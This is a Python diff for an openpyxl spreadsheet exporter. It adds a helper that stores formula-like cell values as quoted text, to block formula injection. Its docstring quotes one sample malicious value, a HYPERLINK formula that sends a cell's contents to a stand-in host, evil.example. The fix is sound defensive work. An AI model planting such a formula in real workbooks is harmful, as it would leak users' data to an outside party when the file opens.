@@ -57,11 +57,24 @@ def _sheet(wb: Workbook, title: str, headers: list[str], rows: list[list[Any]]) 
         cell.alignment = Alignment(horizontal="center", vertical="center", wrap_text=True)
     for row in rows:
         ws.append(row)
+    _text_as_text(ws)
     ws.freeze_panes = "A2"
     for index, header in enumerate(headers, start=1):
         width = max([len(str(header)) * 2] + [min(len(str(r[index - 1])), 60) for r in rows] + [6])
         ws.column_dimensions[get_column_letter(index)].width = min(width + 2, 80)
     return ws
+
+
+def _text_as_text(ws: Worksheet) -> None:
+    """Every value is data: openpyxl takes a str starting with `=` for a formula, and a
+    reason typed as `=HYPERLINK("http://evil.example/?"&B2)` would run when the office
+    opens the workbook. Such a cell is kept as a string, with Excel's quote prefix so
+    that editing it does not make it a formula either."""
+    for row in ws.iter_rows():
+        for cell in row:
+            if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value[:1] in "=+-@"):
+                cell.data_type = "s"
+                cell.quotePrefix = True
 
 
 def _percent_column(ws: Worksheet, column: int) -> None:
